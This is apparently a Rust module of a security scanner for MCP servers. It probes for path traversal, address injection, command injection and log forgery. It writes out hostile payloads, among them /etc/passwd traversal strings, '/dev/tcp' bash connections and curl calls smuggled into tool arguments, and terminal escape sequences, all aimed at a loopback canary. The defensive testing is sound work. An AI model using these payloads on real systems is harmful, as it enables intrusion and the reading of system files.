//! What a caller writes, taken for something else: a path, an address, a command, a line of the log.

use std::time::Duration;

use futures_util::future::BoxFuture;
use serde_json::{Map, Value, json};
use tokio::net::TcpListener;

use super::{About, Attack, Finding, Target, Verdict, trail};

/// The family.
pub(super) const ALL: &[&dyn Attack] = &[
    &Traversal,
    &Canary {
        about: About {
            id: "url-injection",
            family: "injection",
            title: "An address in place of a word",
            tried: "Addresses of a listener of this program, as the string arguments of read-only tools; it waits whether the server comes to call.",
            elsewhere: "An argument is put into an address unencoded, or fetched as it stands, so a caller makes the server's machine call anyone, its own network included.",
            advisory: "CVE-2026-26118, GHSA-c9xm-49cp-xcr9, CWE-918",
            remedy: "fixed hosts, arguments encoded, no redirects to private addresses",
        },
        payloads: |port| {
            vec![
                format!("http://127.0.0.1:{port}/canary"),
                format!("x@127.0.0.1:{port}/canary#"),
                format!("//127.0.0.1:{port}/canary?"),
            ]
        },
    },
    &Canary {
        about: About {
            id: "command-injection",
            family: "injection",
            title: "A command in place of a word",
            tried: "Shell syntax that would connect to a listener of this program, as the string arguments of read-only tools.",
            elsewhere: "An argument is pasted into a shell's command line.",
            advisory: "CVE-2025-6514 (mcp-remote), CVE-2026-30623, CWE-78",
            remedy: "no shell; arguments as a list; allow-listed programs",
        },
        payloads: |port| {
            let call = format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}'");
            let fetch = format!("curl -s http://127.0.0.1:{port}/canary");
            vec![
                format!("x; {call}"),
                format!("$({fetch})"),
                format!("`{call}`"),
                format!("\"; {fetch} #"),
            ]
        },
    },
    &LogForgery,
    &LogEscapes,
];

struct Traversal;

/// Written so that a server which decodes once, twice or not at all is tried.
const WAYS_OUT: [&str; 6] = [
    "file:///etc/passwd",
    "../../../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd",
    "....//....//....//....//....//....//etc/passwd",
    "/etc/passwd%00.md",
];

impl Attack for Traversal {
    fn about(&self) -> &About {
        &About {
            id: "path-traversal",
            family: "injection",
            title: "A resource outside of the resources",
            tried: "resources/read of file:///etc/passwd, and of the server's own URIs with ../../etc/passwd put in, plain and encoded.",
            elsewhere: "The part of the URI behind the scheme is joined to a folder and opened.",
            advisory: "CVE-2025-53110 (filesystem server), CWE-22",
            remedy: "look names up in a list, or resolve the path and check where it ends",
        }
    }

    fn run<'a>(&'a self, target: &'a Target) -> BoxFuture<'a, Finding> {
        Box::pin(async move {
            let mut uris: Vec<String> = vec![WAYS_OUT[0].into()];
            let mut schemes: Vec<&str> = target
                .resources
                .iter()
                .filter_map(|uri| uri.split_once("://").map(|(scheme, _)| scheme))
                .collect();
            schemes.sort_unstable();
            schemes.dedup();
            for scheme in schemes.into_iter().take(4) {
                uris.extend(WAYS_OUT[1..].iter().map(|way| format!("{scheme}://{way}")));
            }
            for uri in &uris {
                let answer = target
                    .ask(&target.owner, "resources/read", json!({ "uri": uri }))
                    .await;
                if answer.code() == Some(-32601) {
                    return Err(Verdict::NotApplicable("the server has no resources".into()));
                }
                if answer.text.contains("root:") && answer.text.contains(":/") {
                    return Ok(Verdict::Broken(format!(
                        "{uri} gave the machine's accounts"
                    )));
                }
            }
            Ok(Verdict::Held(format!(
                "none of {} URIs led out",
                uris.len()
            )))
        })
    }
}

struct Canary {
    about: About,
    payloads: fn(u16) -> Vec<String>,
}

/// How many tools are tried, and how long each call may take.
const MAX_TOOLS: usize = 6;
const CALL: Duration = Duration::from_secs(6);

impl Attack for Canary {
    fn about(&self) -> &About {
        &self.about
    }

    fn run<'a>(&'a self, target: &'a Target) -> BoxFuture<'a, Finding> {
        Box::pin(async move {
            if !target.wire.is_loopback() {
                return Err(Verdict::NotApplicable(
                    "the listener that would prove it is on this machine, and the server isn't"
                        .into(),
                ));
            }
            let tools: Vec<(&Value, Vec<&String>)> = target
                .tools
                .iter()
                .filter(|tool| tool["annotations"]["readOnlyHint"] == true)
                .map(|tool| (tool, strings(tool)))
                .filter(|(_, strings)| !strings.is_empty())
                .take(MAX_TOOLS)
                .collect();
            if tools.is_empty() {
                return Err(Verdict::NotApplicable(
                    "no tool is marked read-only and takes a text, and others could change something".into(),
                ));
            }
            let listener = match TcpListener::bind("127.0.0.1:0").await {
                Ok(listener) => listener,
                Err(error) => {
                    return Ok(Verdict::Unclear(format!(
                        "no listener could be opened: {error}"
                    )));
                }
            };
            let port = listener.local_addr().map_or(0, |address| address.port());
            for (tool, strings) in &tools {
                for payload in (self.payloads)(port) {
                    let arguments: Map<String, Value> = strings
                        .iter()
                        .map(|name| ((*name).clone(), payload.clone().into()))
                        .collect();
                    let call = json!({ "name": tool["name"], "arguments": arguments });
                    let request = target
                        .prepare(&target.owner, "tools/call", call)
                        .await
                        .request
                        .wait(CALL);
                    let called = tokio::select! {
                        called = listener.accept() => called.is_ok(),
                        _ = request.send() => false,
                    };
                    // It may come a moment after the answer.
                    let called = called
                        || tokio::time::timeout(Duration::from_millis(100), listener.accept())
                            .await
                            .is_ok();
                    if called {
                        return Ok(Verdict::Broken(format!(
                            "{} connected to the listener, given {payload}",
                            tool["name"]
                        )));
                    }
                }
            }
            let names: Vec<&str> = tools
                .iter()
                .filter_map(|(tool, _)| tool["name"].as_str())
                .collect();
            Ok(Verdict::Held(format!(
                "nothing came to call, given to {}",
                names.join(", ")
            )))
        })
    }
}

/// The arguments that take a text.
fn strings(tool: &Value) -> Vec<&String> {
    tool["inputSchema"]["properties"]
        .as_object()
        .into_iter()
        .flatten()
        .filter(|(_, schema)| schema["type"] == "string")
        .map(|(name, _)| name)
        .collect()
}

/// What no honest record says.
const FORGED: &str = r#"{"identity":"forged-by-the-attack-lab","outcome":"SUCCESS"}"#;

/// Puts hostile text wherever a caller's text may reach the record, and reads what was written.
async fn written(target: &Target, hostile: &str) -> Result<Vec<String>, Verdict> {
    if !target.trail.is_there() {
        return Err(Verdict::NotApplicable(
            "the server's record can't be read: give its file with --audit-log".into(),
        ));
    }
    trail::news(target).await;
    let name = format!("x{hostile}y");
    let claims = json!({ "io.modelcontextprotocol/clientInfo": { "name": name, "version": name } });
    for (method, params) in [
        (
            "tools/call",
            json!({ "name": name, "arguments": { &name: 1 }, "_meta": claims }),
        ),
        ("resources/read", json!({ "uri": name })),
        (name.as_str(), json!({})),
    ] {
        let prepared = target.prepare(&target.owner, method, params).await;
        prepared.request.send().await;
    }
    let lines = trail::news(target).await;
    if lines.is_empty() {
        return Err(Verdict::NotApplicable(
            "nothing was written to the record".into(),
        ));
    }
    Ok(lines)
}

struct LogForgery;

impl Attack for LogForgery {
    fn about(&self) -> &About {
        &About {
            id: "log-forgery",
            family: "injection",
            title: "A line of the record, forged",
            tried: "Tool names, URIs, methods and client names with line ends and a record of the attacker's own behind them.",
            elsewhere: "Text goes into a log as it came, and the next line is the attacker's.",
            advisory: "CWE-117",
            remedy: "escape whatever can end a line; one record stays one line",
        }
    }

    fn run<'a>(&'a self, target: &'a Target) -> BoxFuture<'a, Finding> {
        Box::pin(async move {
            let lines =
                written(target, &format!("\n{FORGED}\r\n{FORGED}\u{2028}{FORGED}\n")).await?;
            let is_forged = |line: &&String| {
                line.trim_start()
                    .starts_with(r#"{"identity":"forged-by-the-attack-lab""#)
            };
            Ok(match lines.iter().find(is_forged) {
                Some(_) => Verdict::Broken(
                    "a line of the record is the attacker's own, word for word".into(),
                ),
                None => Verdict::Held(format!(
                    "{} lines were written, none of them forged",
                    lines.len()
                )),
            })
        })
    }
}

struct LogEscapes;

impl Attack for LogEscapes {
    fn about(&self) -> &About {
        &About {
            id: "log-escapes",
            family: "injection",
            title: "A record that repaints its reader's terminal",
            tried: "The same places with escape sequences and characters that reverse the direction of text.",
            elsewhere: "Whoever reads the log in a terminal runs what the attacker wrote.",
            advisory: "CWE-150, CVE-2021-42574",
            remedy: "escape control and direction characters in everything that is written",
        }
    }

    fn run<'a>(&'a self, target: &'a Target) -> BoxFuture<'a, Finding> {
        Box::pin(async move {
            let lines = written(
                target,
                "\u{1b}]0;owned\u{7}\u{1b}[2J\u{202e}drowssap\u{200b}",
            )
            .await?;
            let acts = |c: char| {
                c.is_control()
                    || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}')
            };
            Ok(match lines.iter().find(|line| line.chars().any(acts)) {
                Some(line) => Verdict::Broken(format!(
                    "the record holds it as it is: {}",
                    crate::untrusted::label(line, 120)
                )),
                None => Verdict::Held(format!(
                    "{} lines were written, all of them plain",
                    lines.len()
                )),
            })
        })
    }
}
